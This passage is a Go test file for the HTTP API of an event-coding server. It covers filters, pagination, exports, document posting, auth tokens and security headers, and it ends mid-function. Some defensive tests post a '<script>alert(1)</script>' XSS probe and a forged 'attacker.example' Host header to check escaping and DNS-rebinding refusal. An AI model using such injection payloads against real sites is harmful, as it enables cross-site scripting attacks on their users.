package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/dateline-project/dateline/internal/doc"
	"github.com/dateline-project/dateline/internal/server"
	"github.com/dateline-project/dateline/internal/source"
	"github.com/dateline-project/dateline/internal/store"
	"github.com/dateline-project/dateline/internal/store/sqlite"
	"github.com/dateline-project/dateline/internal/store/storetest"
)

// fakeCoder stands in for the pipeline: it codes one ACCUSE event per
// document so that the test can see what was stored, whatever the real
// stages do today.
type fakeCoder struct{}

func (fakeCoder) Code(ctx context.Context, d *doc.Doc) error {
	if strings.Contains(d.Text, "FAIL") {
		return errors.New("cannot code this")
	}
	d.Events = append(d.Events, doc.Event{ID: "e1", Type: "ACCUSE", Quad: "verbal conflict", Location: -1, ClaimedBy: -1,
		Date:   time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC),
		Actors: []doc.EventActor{{RawText: "France", Actor: doc.Actor{Name: "France", CountryCode: "FRA", SectorCode: "GOV"}, Entity: -1}}})
	return nil
}

func newStore(t testing.TB) *sqlite.DB {
	t.Helper()
	db, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "dateline.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

func newServer(t testing.TB, opts server.Options) (*server.Server, *sqlite.DB) {
	t.Helper()
	db := newStore(t)
	storetest.Load(t, db)
	if opts.Coder == nil {
		opts.Coder = fakeCoder{}
	}
	return server.New(db, opts), db
}

type response struct {
	status int
	header http.Header
	body   []byte
}

func do(t testing.TB, h http.Handler, method, target string, body io.Reader, hdr ...string) response {
	t.Helper()
	req := httptest.NewRequest(method, target, body)
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return response{rec.Code, rec.Header(), rec.Body.Bytes()}
}

// jsonType is the header that every write needs.
var jsonType = []string{"Content-Type", "application/json"}

func get(t testing.TB, h http.Handler, target string) response {
	t.Helper()
	return do(t, h, http.MethodGet, target, nil)
}

func decode[T any](t testing.TB, r response) T {
	t.Helper()
	var v T
	if err := json.Unmarshal(r.body, &v); err != nil {
		t.Fatalf("decode %s: %v", r.body, err)
	}
	return v
}

type eventsPage struct {
	Events []store.EventRow `json:"events"`
	Next   *string          `json:"next"`
}

func TestEvents_Filters(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	for _, c := range []struct {
		query string
		want  []string
	}{
		{"", []string{"d1/e1", "d1/e2", "d2/e2", "d2/e1", "d3/e1"}},
		{"type=ASSAULT", []string{"d1/e1"}},
		{"type=assault,aid", []string{"d1/e1", "d2/e2"}},
		{"type=ASSAULT&type=AID", []string{"d1/e1", "d2/e2"}},
		{"mode=demo", []string{"d2/e1"}},
		{"quad=material%20conflict", []string{"d1/e1", "d2/e1"}},
		{"quad=MATERIAL_CONFLICT", []string{"d1/e1", "d2/e1"}}, // any case, underscores for spaces
		{"actor_country=aze", []string{"d1/e1", "d3/e1"}},
		{"actor_sector=MIL", []string{"d1/e1", "d3/e1"}},
		{"actor_name=army", []string{"d1/e1"}},
		{"recipient_country=KEN", []string{"d2/e2", "d2/e1"}},
		{"recipient_sector=GOV&recipient_country=FRA", []string{"d3/e1"}},
		{"recipient_name=Kenyan", []string{"d2/e2", "d2/e1"}},
		{"claimed=true", []string{"d1/e1", "d2/e2"}},
		{"claimed=false", []string{"d1/e2", "d2/e1", "d3/e1"}},
		{"from=2024-03-04", []string{"d2/e2", "d2/e1", "d3/e1"}},
		{"to=2024-03-01", []string{"d1/e1", "d1/e2"}},
		{"from=2024-03-02&to=2024-03-05", []string{"d2/e2", "d2/e1"}},
		{"place=Nairobi", []string{"d2/e1"}},
		{"bbox=33,-5,42,5", []string{"d2/e2", "d2/e1"}},
		{"q=ceasefire", []string{"d1/e1", "d1/e2"}},
		{"q=%22zebra%22+OR+NOT+ceasefire", nil},
		{"quad=material%20conflict&actor_country=KEN&from=2024-03-02", []string{"d2/e1"}},
	} {
		t.Run(c.query, func(t *testing.T) {
			r := get(t, s, "/api/events?"+c.query)
			if r.status != http.StatusOK {
				t.Fatalf("status %d: %s", r.status, r.body)
			}
			p := decode[eventsPage](t, r)
			if got := storetest.Keys(p.Events); !reflect.DeepEqual(got, c.want) {
				t.Errorf("got %v, want %v", got, c.want)
			}
			if p.Next != nil {
				t.Errorf("next = %q on a single page", *p.Next)
			}
			if p.Events == nil {
				t.Error("events is null, want []")
			}
		})
	}
}

func TestEvents_RowFields(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	r := get(t, s, "/api/events?type=ASSAULT")
	var raw struct {
		Events []map[string]any `json:"events"`
	}
	if err := json.Unmarshal(r.body, &raw); err != nil || len(raw.Events) != 1 {
		t.Fatalf("%s: %v", r.body, err)
	}
	ev := raw.Events[0]
	for _, k := range []string{"id", "date", "event", "mode", "quad", "actor", "recipient", "location", "claimed_by", "evidence", "doc_id", "day", "source", "title"} {
		if _, ok := ev[k]; !ok {
			t.Errorf("event JSON lacks %q: %v", k, ev)
		}
	}
}

func TestEvents_BadRequests(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	for _, q := range []string{
		"claimed=maybe", "distinct=yes", "geonameid=paris", "geonameid=0", "bbox=1,2,3", "bbox=a,b,c,d", "bbox=10,0,0,10", "from=2024-13-01", "from=yesterday",
		"from=2024-03-05&to=2024-03-01", "actor_contry=AZE", "limit=0", "limit=501", "limit=-1", "limit=ten",
		"cursor=%21%21", "cursor=bm9waXBl",
	} {
		r := get(t, s, "/api/events?"+q)
		if r.status != http.StatusBadRequest {
			t.Errorf("%s: status %d, want 400 (%s)", q, r.status, r.body)
			continue
		}
		if e := decode[map[string]string](t, r); e["error"] == "" {
			t.Errorf("%s: no error message: %s", q, r.body)
		}
	}
}

func TestEvents_Pagination(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	all := []string{"d1/e1", "d1/e2", "d2/e2", "d2/e1", "d3/e1"}
	for _, limit := range []string{"1", "2", "4", "5", "500"} {
		var got []string
		target := "/api/events?limit=" + limit
		for pages := 0; ; pages++ {
			if pages > 10 {
				t.Fatal("pagination does not end")
			}
			r := get(t, s, target)
			if r.status != http.StatusOK {
				t.Fatalf("limit %s: %d %s", limit, r.status, r.body)
			}
			p := decode[eventsPage](t, r)
			got = append(got, storetest.Keys(p.Events)...)
			if p.Next == nil {
				if len(p.Events) == 0 && len(got) > 0 {
					t.Errorf("limit %s: trailing empty page", limit)
				}
				break
			}
			target = "/api/events?limit=" + limit + "&cursor=" + *p.Next
		}
		if !reflect.DeepEqual(got, all) {
			t.Errorf("limit %s: %v, want %v", limit, got, all)
		}
	}
	// The cursor carries over filters: page 2 of ASSAULT|AID.
	p := decode[eventsPage](t, get(t, s, "/api/events?type=ASSAULT,AID&limit=1"))
	if p.Next == nil {
		t.Fatal("no next cursor")
	}
	p = decode[eventsPage](t, get(t, s, "/api/events?type=ASSAULT,AID&limit=1&cursor="+*p.Next))
	if got := storetest.Keys(p.Events); !reflect.DeepEqual(got, []string{"d2/e2"}) || p.Next != nil {
		t.Errorf("page 2 = %v next %v", got, p.Next)
	}
	// Empty result.
	p = decode[eventsPage](t, get(t, s, "/api/events?type=RETREAT"))
	if len(p.Events) != 0 || p.Next != nil {
		t.Errorf("empty: %+v", p)
	}
}

func TestDocument_EscapedScript(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	r := get(t, s, "/api/documents/d3")
	if r.status != http.StatusOK {
		t.Fatalf("status %d", r.status)
	}
	if bytes.Contains(r.body, []byte("<script>")) || bytes.Contains(r.body, []byte("<b>")) {
		t.Errorf("markup leaves unescaped: %s", r.body)
	}
	if !bytes.Contains(r.body, []byte(`\u003cscript\u003e`)) {
		t.Errorf("expected \\u003cscript\\u003e in %s", r.body)
	}
	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Errorf("Content-Type %q", ct)
	}
	d := decode[store.Document](t, r)
	if d.Text != storetest.ScriptText || d.Record.DocID != "d3" || len(d.Record.Events) != 1 {
		t.Errorf("document = %+v", d)
	}
	if r := get(t, s, "/api/documents/nope"); r.status != http.StatusNotFound {
		t.Errorf("missing document: %d", r.status)
	}
	if r := get(t, s, "/api/documents/"); r.status != http.StatusNotFound {
		t.Errorf("empty id: %d", r.status)
	}
}

func TestQuotes(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	type page struct {
		Quotes []store.QuoteRow `json:"quotes"`
		Next   *string          `json:"next"`
	}
	for _, c := range []struct {
		query string
		want  []string
	}{
		{"", []string{"d1", "d2", "d2"}},
		{"speaker=karimov", []string{"d2"}},
		{"country=fra", []string{"d2"}},
		{"country=ARM,FRA", []string{"d1", "d2"}},
		{"q=shelling", []string{"d1"}},
		{"q=zebra", nil},
	} {
		r := get(t, s, "/api/quotes?"+c.query)
		if r.status != http.StatusOK {
			t.Fatalf("%s: %d %s", c.query, r.status, r.body)
		}
		var got []string
		for _, q := range decode[page](t, r).Quotes {
			got = append(got, q.DocID)
		}
		if !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s: %v, want %v", c.query, got, c.want)
		}
	}
	p := decode[page](t, get(t, s, "/api/quotes?limit=2"))
	if len(p.Quotes) != 2 || p.Next == nil {
		t.Fatalf("page 1 %+v", p)
	}
	p = decode[page](t, get(t, s, "/api/quotes?limit=2&cursor="+*p.Next))
	if len(p.Quotes) != 1 || p.Next != nil {
		t.Errorf("page 2 %+v", p)
	}
	for _, q := range []string{"cursor=xyz", "limit=1000", "speakr=x"} {
		if r := get(t, s, "/api/quotes?"+q); r.status != http.StatusBadRequest {
			t.Errorf("%s: %d", q, r.status)
		}
	}
}

func TestTimeline(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	type tl struct {
		By   string                `json:"by"`
		Days []store.TimelinePoint `json:"days"`
	}
	got := decode[tl](t, get(t, s, "/api/stats/timeline?by=quad&quad=material%20conflict"))
	want := tl{By: "quad", Days: []store.TimelinePoint{
		{Date: "2024-02-28", Total: 1, Counts: map[string]int{"material conflict": 1}},
		{Date: "2024-03-05", Total: 1, Counts: map[string]int{"material conflict": 1}},
	}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("by quad: %+v", got)
	}
	got = decode[tl](t, get(t, s, "/api/stats/timeline?actor_country=AZE"))
	if got.By != "type" || len(got.Days) != 2 || got.Days[0].Counts["ASSAULT"] != 1 || got.Days[1].Counts["CONSULT"] != 1 {
		t.Errorf("by type: %+v", got)
	}
	if r := get(t, s, "/api/stats/timeline?by=week"); r.status != http.StatusBadRequest {
		t.Errorf("by=week: %d", r.status)
	}
}

func TestNetworkAndPlaces(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	net := decode[struct {
		Edges []store.Edge `json:"edges"`
	}](t, get(t, s, "/api/actors/network?recipient_country=KEN"))
	var got []string
	for _, e := range net.Edges {
		got = append(got, e.Actor.Country+">"+e.Recipient.Country)
	}
	if !reflect.DeepEqual(got, []string{"FRA>KEN", "KEN>KEN"}) {
		t.Errorf("edges %v", got)
	}
	if n := decode[struct {
		Edges []store.Edge `json:"edges"`
	}](t, get(t, s, "/api/actors/network?limit=1")); len(n.Edges) != 1 {
		t.Errorf("limit=1: %d edges", len(n.Edges))
	}
	pl := decode[struct {
		Places []store.PlaceCount `json:"places"`
	}](t, get(t, s, "/api/places?bbox=33,-5,42,5"))
	if len(pl.Places) != 2 || pl.Places[0].Lat == nil {
		t.Errorf("places %+v", pl)
	}
	pl = decode[struct {
		Places []store.PlaceCount `json:"places"`
	}](t, get(t, s, "/api/places?type=ACCUSE"))
	if len(pl.Places) != 1 || pl.Places[0].Name != "Baku" || pl.Places[0].Lat != nil {
		t.Errorf("dateline place %+v", pl)
	}
	st := decode[store.Stats](t, get(t, s, "/api/stats"))
	if st.Documents != 3 || st.Events != 5 {
		t.Errorf("stats %+v", st)
	}
}

func TestExports(t *testing.T) {
	s, _ := newServer(t, server.Options{})

	r := get(t, s, "/api/export/events.jsonl?quad=material%20conflict")
	if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "application/x-ndjson") {
		t.Fatalf("jsonl %d %v", r.status, r.header)
	}
	lines := strings.Split(strings.TrimSpace(string(r.body)), "\n")
	if len(lines) != 2 {
		t.Fatalf("jsonl lines %d: %s", len(lines), r.body)
	}
	var row store.EventRow
	if err := json.Unmarshal([]byte(lines[0]), &row); err != nil || row.Event.Event != "ASSAULT" || row.DocID != "d1" {
		t.Errorf("jsonl row %+v %v", row, err)
	}

	r = get(t, s, "/api/export/events.csv")
	if r.status != http.StatusOK || r.header.Get("Content-Disposition") == "" {
		t.Fatalf("csv %d %v", r.status, r.header)
	}
	recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 6 || !reflect.DeepEqual(recs[0], server.CSVHeader) {
		t.Fatalf("csv: %v", recs)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	last := recs[5] // d3/e1: two actors
	if last[col["actor_country"]] != "AZE|TUR|AZE" || last[col["recipient_name"]] != "France" || last[col["lat"]] != "48.85" ||
		last[col["doc_id"]] != "d3" || last[col["source_url"]] != "https://example.org/d3" || last[col["event"]] != "CONSULT" {
		t.Errorf("csv row %v", last)
	}
	if _, ok := col["date"]; ok {
		t.Error("csv still has a date column beside day")
	}
	if got := recs[2][col["date_precision"]]; got != "published" { // d1/e2
		t.Errorf("d1/e2 date_precision %q", got)
	}
	for _, rec := range recs[1:] {
		if p := rec[col["principal"]]; p != "true" && p != "false" {
			t.Errorf("csv principal %q, want true or false", p)
		}
	}

	r = get(t, s, "/api/export/events.geojson?actor_country=ARM,AZE")
	var fc struct {
		Type     string `json:"type"`
		Omitted  *int   `json:"omitted"`
		Features []struct {
			Geometry *struct {
				Type        string     `json:"type"`
				Coordinates [2]float64 `json:"coordinates"`
			} `json:"geometry"`
			Properties map[string]any `json:"properties"`
		} `json:"features"`
	}
	if err := json.Unmarshal(r.body, &fc); err != nil {
		t.Fatalf("geojson: %v\n%s", err, r.body)
	}
	// Three events match; Baku, a dateline place without coordinates,
	// is left out and counted.
	if fc.Type != "FeatureCollection" || len(fc.Features) != 2 || fc.Omitted == nil || *fc.Omitted != 1 {
		t.Fatalf("geojson %+v", fc)
	}
	if g := fc.Features[0].Geometry; g == nil || g.Coordinates != [2]float64{46.36, 40.68} {
		t.Errorf("Ganja geometry %+v (want lon, lat)", g)
	}
	for _, f := range fc.Features {
		if f.Geometry == nil {
			t.Errorf("a feature without geometry: %+v", f)
		}
	}
	// Empty exports are still valid documents.
	r = get(t, s, "/api/export/events.geojson?type=RETREAT")
	if err := json.Unmarshal(r.body, &fc); err != nil || len(fc.Features) != 0 || fc.Omitted == nil || *fc.Omitted != 0 {
		t.Errorf("empty geojson %s %v", r.body, err)
	}
	if r := get(t, s, "/api/export/events.csv?type=RETREAT"); strings.Count(string(r.body), "\n") != 1 {
		t.Errorf("empty csv %q", r.body)
	}
	if r := get(t, s, "/api/export/events.jsonl?limit=3"); r.status != http.StatusBadRequest {
		t.Errorf("export accepts limit: %d", r.status)
	}
}

type postResult struct {
	Inserted  int               `json:"inserted"`
	Replaced  int               `json:"replaced"`
	Aliased   int               `json:"aliased"`
	Unchanged int               `json:"unchanged"`
	Records   []json.RawMessage `json:"records"`
	Skipped   []string          `json:"skipped"`
}

func TestPostDocuments(t *testing.T) {
	s, db := newServer(t, server.Options{})
	post := func(body, ct string) response {
		return do(t, s, http.MethodPost, "/api/documents", strings.NewReader(body), "Content-Type", ct)
	}
	r := post(`{"id":"p1","date":"2024-05-01","title":"<i>T</i>","text":"PARIS - <script>alert(1)</script> France accused Kenya."}`, "application/json")
	if r.status != http.StatusCreated {
		t.Fatalf("object: %d %s", r.status, r.body)
	}
	res := decode[postResult](t, r)
	if res.Inserted != 1 || len(res.Records) != 1 || bytes.Contains(r.body, []byte("<script>")) {
		t.Errorf("object: %s", r.body)
	}
	d, err := db.Document(context.Background(), "p1")
	if err != nil || !strings.Contains(d.Text, "<script>") || d.Record.Source.Path != "api" || len(d.Record.Events) != 1 {
		t.Fatalf("stored %+v %v", d, err)
	}
	rows, _, _ := db.Events(context.Background(), store.EventFilter{Actor: store.ActorFilter{Countries: []string{"FRA"}}, Type: []string{"ACCUSE"}}, "", 0)
	if len(rows) != 1 || rows[0].DocID != "p1" {
		t.Errorf("posted event not queryable: %+v", rows)
	}

	// Same document again: unchanged, 200.
	r = post(`{"id":"p1","text":"PARIS - <script>alert(1)</script> France accused Kenya."}`, "application/json")
	if res := decode[postResult](t, r); r.status != http.StatusOK || res.Unchanged != 1 || res.Inserted != 0 {
		t.Errorf("repost: %d %s", r.status, r.body)
	}
	// Array, JSONL, and plain text.
	r = post(`[{"id":"p2","text":"One text."},{"id":"p3","text":"Two text."}]`, "application/json")
	if res := decode[postResult](t, r); res.Inserted != 2 {
		t.Errorf("array: %s", r.body)
	}
	r = post("{\"text\":\"Line one.\"}\n{\"text\":\"Line two.\"}\n{broken\n", "application/x-ndjson")
	if res := decode[postResult](t, r); res.Inserted != 2 || len(res.Skipped) != 1 {
		t.Errorf("jsonl: %s", r.body)
	}
	// Coding failures are reported, not stored.
	r = post(`[{"id":"ok","text":"Fine."},{"id":"bad","text":"FAIL here"}]`, "application/json")
	if res := decode[postResult](t, r); res.Inserted != 1 || len(res.Skipped) != 1 {
		t.Errorf("coder failure: %s", r.body)
	}
	// Nothing usable: 400.
	for _, body := range []string{"", "{not json", `{"id":"x"}`} {
		if r := post(body, "application/json"); r.status != http.StatusBadRequest {
			t.Errorf("%q: %d %s", body, r.status, r.body)
		}
	}
	if r := do(t, s, http.MethodPost, "/api/documents?format=docx", strings.NewReader("x"), jsonType...); r.status != http.StatusBadRequest {
		t.Errorf("bad format: %d", r.status)
	}
	if r := do(t, s, http.MethodPut, "/api/documents", strings.NewReader("{}"), jsonType...); r.status != http.StatusMethodNotAllowed {
		t.Errorf("PUT /api/documents: %d", r.status)
	}
	// No coder: 503.
	s2 := server.New(db, server.Options{})
	if r := do(t, s2, http.MethodPost, "/api/documents", strings.NewReader(`{"text":"x"}`), jsonType...); r.status != http.StatusServiceUnavailable {
		t.Errorf("no coder: %d", r.status)
	}
}

func TestBodyLimit(t *testing.T) {
	s, _ := newServer(t, server.Options{MaxBodyBytes: 1024})
	big := `{"text":"` + strings.Repeat("a", 2000) + `"}`
	if r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader(big), jsonType...); r.status != http.StatusRequestEntityTooLarge {
		t.Errorf("declared length: %d %s", r.status, r.body)
	}
	// Without a Content-Length (chunked), the limit is enforced on read.
	req := httptest.NewRequest(http.MethodPost, "/api/documents", io.MultiReader(strings.NewReader(big)))
	req.ContentLength = -1
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, req)
	if rec.Code != http.StatusRequestEntityTooLarge {
		t.Errorf("chunked: %d %s", rec.Code, rec.Body)
	}
	if r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader(`{"text":"small enough"}`), jsonType...); r.status != http.StatusCreated {
		t.Errorf("small body: %d", r.status)
	}
	// The default is 10 MiB.
	s2, _ := newServer(t, server.Options{})
	huge := `{"text":"` + strings.Repeat("b", server.DefaultMaxBodyBytes) + `"}`
	if r := do(t, s2, http.MethodPost, "/api/documents", strings.NewReader(huge), jsonType...); r.status != http.StatusRequestEntityTooLarge {
		t.Errorf("10 MiB default: %d", r.status)
	}
}

// A body within the byte limit whose one document exceeds the document
// budget is refused with 413, not coded for seconds and not a 400.
func TestPostDocumentOverBudget(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	over := `{"text":"` + strings.Repeat("word ", source.DefaultMaxDocBytes/5+10) + `"}`
	if r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader(over), jsonType...); r.status != http.StatusRequestEntityTooLarge {
		t.Errorf("a document over the budget: %d %.200s", r.status, r.body)
	}
}

func TestSecurityHeaders(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	for _, target := range []string{"/", "/api/events", "/api/events?limit=0", "/api/documents/d3", "/api/nope", "/missing.js", "/api/export/events.csv"} {
		r := get(t, s, target)
		csp := r.header.Get("Content-Security-Policy")
		if !strings.Contains(csp, "default-src 'self'") || strings.Contains(csp, "unsafe-inline") {
			t.Errorf("%s: CSP %q", target, csp)
		}
		if r.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: no nosniff", target)
		}
	}
	if r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader("{"), jsonType...); r.header.Get("Content-Security-Policy") == "" {
		t.Error("POST error response lacks CSP")
	}
}

// TestToken checks the bearer token on writes. The scheme is
// case-insensitive (RFC 7235), so "bearer" and "BEARER" work as "Bearer".
func TestToken(t *testing.T) {
	s, _ := newServer(t, server.Options{Token: "s3cret"})
	for i, c := range []struct {
		auth string
		want int
	}{
		{"", http.StatusUnauthorized}, {"Bearer wrong", http.StatusUnauthorized}, {"s3cret", http.StatusUnauthorized},
		{"Basic czNjcmV0", http.StatusUnauthorized}, {"Bearer", http.StatusUnauthorized}, {"Bearers3cret", http.StatusUnauthorized},
		{"Bearer s3cret", http.StatusCreated}, {"bearer s3cret", http.StatusCreated}, {"BEARER  s3cret", http.StatusCreated},
	} {
		body := fmt.Sprintf(`{"id":"t%d","text":"Token test number %d."}`, i, i)
		hdr := jsonType
		if c.auth != "" {
			hdr = append([]string{"Authorization", c.auth}, jsonType...)
		}
		r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader(body), hdr...)
		if r.status != c.want {
			t.Errorf("auth %q: %d, want %d", c.auth, r.status, c.want)
		}
	}
	// Reads stay open.
	if r := get(t, s, "/api/events"); r.status != http.StatusOK {
		t.Errorf("GET with token configured: %d", r.status)
	}
}

func TestIsLoopback(t *testing.T) {
	for addr, want := range map[string]bool{
		"127.0.0.1:8080": true, "localhost:80": true, "[::1]:8080": true, "127.1.2.3:1": true,
		":8080": false, "0.0.0.0:8080": false, "[::]:80": false, "192.0.2.1:80": false, "example.org:80": false, "nonsense": false,
	} {
		if got := server.IsLoopback(addr); got != want {
			t.Errorf("IsLoopback(%q) = %v", addr, got)
		}
	}
}

func TestListenAndServe(t *testing.T) {
	s, db := newServer(t, server.Options{})
	// Off loopback without a token: refused before listening.
	err := s.ListenAndServe(context.Background(), "0.0.0.0:0", time.Second, nil)
	if !errors.Is(err, server.ErrTokenRequired) {
		t.Fatalf("non-loopback without token: %v", err)
	}
	bad := server.New(db, server.Options{AllowedHosts: []string{"http://x.example/"}})
	if err := bad.ListenAndServe(context.Background(), "127.0.0.1:0", time.Second, nil); err == nil || !strings.Contains(err.Error(), "allowed host") {
		t.Fatalf("bad allowed host: %v", err)
	}

	ctx, cancel := context.WithCancel(context.Background())
	addrc := make(chan net.Addr, 1)
	done := make(chan error, 1)
	go func() { done <- s.ListenAndServe(ctx, "127.0.0.1:0", 5*time.Second, func(a net.Addr) { addrc <- a }) }()
	var addr net.Addr
	select {
	case addr = <-addrc:
	case err := <-done:
		t.Fatal(err)
	}
	resp, err := http.Get("http://" + addr.String() + "/api/events?limit=1")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Security-Policy") == "" {
		t.Errorf("live GET: %d %v", resp.StatusCode, resp.Header)
	}
	// The live server knows it listens on loopback: a DNS rebinding
	// request, which names the attacker's host, is refused, and so is a
	// loopback name with another port than the one bound.
	_, port, _ := net.SplitHostPort(addr.String())
	for host, want := range map[string]int{
		"attacker.example:" + port: http.StatusMisdirectedRequest,
		"localhost:" + port:        http.StatusOK,
		"[::1]:" + port:            http.StatusOK,
		"localhost:1":              http.StatusMisdirectedRequest,
	} {
		req, _ := http.NewRequest(http.MethodGet, "http://"+addr.String()+"/api/stats", nil)
		req.Host = host
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("live GET with Host %q: %d, want %d", host, resp.StatusCode, want)
		}
	}
	cancel()
	if err := <-done; err != nil {
		t.Errorf("graceful shutdown: %v", err)
	}
}

func TestAssets(t *testing.T) {
	// Placeholder without assets: HTML with no script at all.
	s, db := newServer(t, server.Options{})
	r := get(t, s, "/")
	if r.status != http.StatusOK || !strings.Contains(string(r.body), "dateline") || strings.Contains(string(r.body), "<script") {
		t.Errorf("placeholder: %d %s", r.status, r.body)
	}
	if r := get(t, s, "/app.js"); r.status != http.StatusNotFound {
		t.Errorf("placeholder /app.js: %d", r.status)
	}

	assets := fstest.MapFS{
		"index.html":    {Data: []byte("<!doctype html><title>app</title><script src=\"/app.js\"></script>")},
		"app.js":        {Data: []byte("console.log('hi')")},
		"css/style.css": {Data: []byte("body{}")},
	}
	s = server.New(db, server.Options{Assets: assets})
	for target, want := range map[string]string{"/": "<title>app", "/app.js": "console.log", "/css/style.css": "body{}", "/events/123": "<title>app"} {
		r := get(t, s, target)
		if r.status != http.StatusOK || !strings.Contains(string(r.body), want) {
			t.Errorf("%s: %d %q", target, r.status, r.body)
		}
	}
	if r := get(t, s, "/nope.js"); r.status != http.StatusNotFound {
		t.Errorf("/nope.js: %d", r.status)
	}
	if r := get(t, s, "/api/unknown"); r.status != http.StatusNotFound || !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") {
		t.Errorf("/api/unknown: %d %v", r.status, r.header)
	}
}

// FuzzEventsQuery checks that no query string makes the events endpoint
// fail with anything but 200 or 400.
func FuzzEventsQuery(f *testing.F) {
	for _, seed := range []string{"", "type=ASSAULT", "bbox=1,2,3,4", "from=2024-01-01&to=2023-01-01", "q=%22NEAR(", "cursor=abc", "limit=5&claimed=true", "actor_name=%25_%5C",
		"principal=1&asserted=0&min_confidence=0.5", "sort=-confidence&total=1&limit=1", "date_precision=day,historical&main_event=true", "min_confidence=NaN", "sort=confidence&cursor=Y29uZmlkZW5jZX4wLjV8Mw"} {
		f.Add(seed)
	}
	s, _ := newServer(f, server.Options{})
	f.Fuzz(func(t *testing.T, raw string) {
		req := httptest.NewRequest(http.MethodGet, "/api/events", nil)
		req.URL.RawQuery = raw
		rec := httptest.NewRecorder()
		s.ServeHTTP(rec, req)
		if rec.Code != http.StatusOK && rec.Code != http.StatusBadRequest {
			t.Fatalf("query %q: status %d %s", raw, rec.Code, rec.Body)
		}
	})
}

// TestEvents_GeonameID checks that places sharing a name are filtered
// apart by their GeoNames id, while place= still matches the name, and
// that /api/places counts them apart with their ids.
func TestEvents_GeonameID(t *testing.T) {
	db := newStore(t)
	if _, err := db.PutDocuments(context.Background(), storetest.Namesakes()); err != nil {
		t.Fatal(err)
	}
	s := server.New(db, server.Options{Coder: fakeCoder{}})
	for _, c := range []struct {
		query string
		want  []string
	}{
		{"place=Paris", []string{"n1/e1", "n2/e1"}},
		{fmt.Sprintf("geonameid=%d", storetest.ParisFrance), []string{"n1/e1"}},
		{fmt.Sprintf("geonameid=%d", storetest.ParisTexas), []string{"n2/e1"}},
		{fmt.Sprintf("place=paris&geonameid=%d", storetest.ParisTexas), []string{"n2/e1"}},
	} {
		t.Run(c.query, func(t *testing.T) {
			if got := eventKeys(t, s, c.query); !reflect.DeepEqual(got, c.want) {
				t.Errorf("got %v, want %v", got, c.want)
			}
		})
	}
	places := decode[struct {
		Places []store.PlaceCount `json:"places"`
	}](t, get(t, s, "/api/places"))
	if len(places.Places) != 2 || places.Places[0].GeonameID == places.Places[1].GeonameID {
		t.Errorf("places = %+v, want the two Paris apart by id", places.Places)
	}
	exp := get(t, s, fmt.Sprintf("/api/export/events.jsonl?geonameid=%d", storetest.ParisFrance))
	if exp.status != http.StatusOK || strings.Count(string(exp.body), "\n") != 1 || !strings.Contains(string(exp.body), "n1") {
		t.Errorf("export by id: status %d body %s", exp.status, exp.body)
	}
}

// TestEvents_Distinct checks that distinct=1 leaves out the events of
// near-duplicate documents everywhere events are listed or counted, and
// that a document's record says what it duplicates.
func TestEvents_Distinct(t *testing.T) {
	db := newStore(t)
	if _, err := db.PutDocuments(context.Background(), storetest.Syndicated()); err != nil {
		t.Fatal(err)
	}
	s := server.New(db, server.Options{Coder: fakeCoder{}})
	for _, c := range []struct {
		query string
		want  []string
	}{
		{"", []string{"s1/e1", "s2/e1", "s1/e2", "s2/e2", "s3/e1"}},
		{"distinct=0", []string{"s1/e1", "s2/e1", "s1/e2", "s2/e2", "s3/e1"}},
		{"distinct=1", []string{"s1/e1", "s1/e2", "s3/e1"}},
		{"distinct=true&type=ASSAULT", []string{"s1/e1", "s3/e1"}},
	} {
		t.Run(c.query, func(t *testing.T) {
			if got := eventKeys(t, s, c.query); !reflect.DeepEqual(got, c.want) {
				t.Errorf("got %v, want %v", got, c.want)
			}
		})
	}
	for _, path := range []string{"/api/export/events.jsonl", "/api/export/events.csv", "/api/export/events.geojson", "/api/stats/timeline", "/api/places", "/api/actors/network"} {
		all, distinct := get(t, s, path), get(t, s, path+"?distinct=1")
		if all.status != http.StatusOK || distinct.status != http.StatusOK {
			t.Errorf("%s: status %d, with distinct=1 %d", path, all.status, distinct.status)
			continue
		}
		if strings.Contains(string(distinct.body), "s2") || string(all.body) == string(distinct.body) {
			t.Errorf("%s?distinct=1 should count s1's events once, without s2's:\n%s\nall:\n%s", path, distinct.body, all.body)
		}
	}
	var doc struct {
		Record struct {
			DuplicateOf *string  `json:"duplicate_of"`
			Similarity  *float64 `json:"similarity"`
		} `json:"record"`
	}
